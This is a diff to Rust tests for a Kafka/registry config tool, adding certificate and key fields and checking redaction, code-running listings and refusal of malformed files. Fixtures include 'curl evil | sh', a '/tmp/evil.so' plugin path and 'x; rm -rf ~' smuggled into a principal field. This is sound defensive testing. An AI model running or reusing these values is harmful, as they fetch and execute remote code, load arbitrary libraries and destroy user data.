@@ -57,6 +57,8 @@ contexts:
     registry: [http://r1, https://r2/]
     registry_auth: { basic: { username: ops, password: { file: ~/secret } } }
     registry_ca: ca.pem
+    registry_certificate: me.pem
+    registry_key: { file: me.key }
     protected: true
     cluster_id: abc
     timeout: 3s
@@ -80,18 +82,20 @@ fn every_field_of_the_table_is_taken_out() {
             "context = prod (eventctl.yaml:1)",
             "environment = prod (eventctl.yaml:6)",
             "brokers = a:1,b:2 (eventctl.yaml:7)",
-            "cluster_id = abc (eventctl.yaml:12)",
-            "protected = true (eventctl.yaml:11)",
+            "cluster_id = abc (eventctl.yaml:14)",
+            "protected = true (eventctl.yaml:13)",
             "registry = http://r1,https://r2 (eventctl.yaml:8)",
             "registry_auth = basic, user ops, password set, hidden; from file /home/ops/secret (eventctl.yaml:9)",
             "registry_ca = /here/ca.pem (eventctl.yaml:10)",
-            "kafka: sasl.password = set, hidden; from command /here/bin/secret (eventctl.yaml:17)",
-            "kafka: sasl.username = 007 (eventctl.yaml:16)",
-            "kafka: security.protocol = SASL_SSL (eventctl.yaml:15)",
-            "kafka: ssl.ca.location = /here/ca.pem (eventctl.yaml:19)",
-            "kafka: ssl.key.pem = set, hidden; from variable KEY (eventctl.yaml:18)",
+            "registry_certificate = /here/me.pem (eventctl.yaml:11)",
+            "registry_key = set, hidden; from file /here/me.key (eventctl.yaml:11)",
+            "kafka: sasl.password = set, hidden; from command /here/bin/secret (eventctl.yaml:19)",
+            "kafka: sasl.username = 007 (eventctl.yaml:18)",
+            "kafka: security.protocol = SASL_SSL (eventctl.yaml:17)",
+            "kafka: ssl.ca.location = /here/ca.pem (eventctl.yaml:21)",
+            "kafka: ssl.key.pem = set, hidden; from variable KEY (eventctl.yaml:20)",
             "catalog = /here/../topics.yaml (eventctl.yaml:2)",
-            "timeout = 3s (eventctl.yaml:13)",
+            "timeout = 3s (eventctl.yaml:15)",
         ]
     );
     // A field that is added to the tables must appear above.
@@ -207,6 +211,9 @@ fn no_secret_reaches_a_finding_or_an_excerpt() {
         "registry_auth: { basic: { username: ops, password: canary-7f3a } }",
         "registry_auth: { basic: { username: ops, pasword: canary-7f3a } }",
         "registry_auth: { beaer: { x: 1 }, bearer: [canary-7f3a] }",
+        "registry_key: |\n      -----BEGIN PRIVATE KEY-----\n      canary-7f3a",
+        "registry_keys: canary-7f3a",
+        "registry_key: [canary-7f3a]",
         // Not YAML at all.
         "kafka: { sasl.password: canary-7f3a",
         "kafka: { sasl.password: \"canary-7f3a }",
@@ -236,6 +243,8 @@ fn what_runs_code_is_listed_whole() {
 contexts:
   a:
     registry_auth: { bearer: { command: [sh, -c, 'curl evil | sh'] } }
+    registry_certificate: x
+    registry_key: { command: cat key }
     kafka:
       plugin.library.paths: /tmp/evil.so
       sasl.kerberos.principal: 'x; rm -rf ~'
@@ -253,9 +262,10 @@ contexts:
         code,
         [
             "eventctl.yaml:3: registry_auth: bearer = sh -c curl evil | sh",
-            "eventctl.yaml:5: kafka: plugin.library.paths = /tmp/evil.so",
-            "eventctl.yaml:6: kafka: sasl.kerberos.principal = x; rm -rf ~",
-            "eventctl.yaml:7: kafka: sasl.password = pass show kafka",
+            "eventctl.yaml:5: registry_key = cat key",
+            "eventctl.yaml:7: kafka: plugin.library.paths = /tmp/evil.so",
+            "eventctl.yaml:8: kafka: sasl.kerberos.principal = x; rm -rf ~",
+            "eventctl.yaml:9: kafka: sasl.password = pass show kafka",
         ]
     );
     assert!(file.contexts["b"].code.is_empty());
@@ -295,6 +305,10 @@ fn hostile_files_are_refused_and_never_obeyed() {
         "contexts: { a: { kafka: { client.id: null } } }".to_owned(),
         "contexts: { a: null }".to_owned(),
         "contexts: { a: { registry: [] } }".to_owned(),
+        "contexts: { a: { registry_key: { env: KEY } } }".to_owned(),
+        "contexts: { a: { registry_certificate: c } }".to_owned(),
+        "contexts: { a: { registry_certificate: c, registry_key: {} } }".to_owned(),
+        "contexts: { a: { registry_certificate: [c], registry_key: { env: KEY } } }".to_owned(),
         "contexts: { b: { brokers: [] } }".to_owned(),
         format!("contexts: {{ a: {{ brokers: [{}] }} }}", "'a:1',".repeat(1_001)),
         "contexts: { \"\\u202e\": {} }".to_owned(),
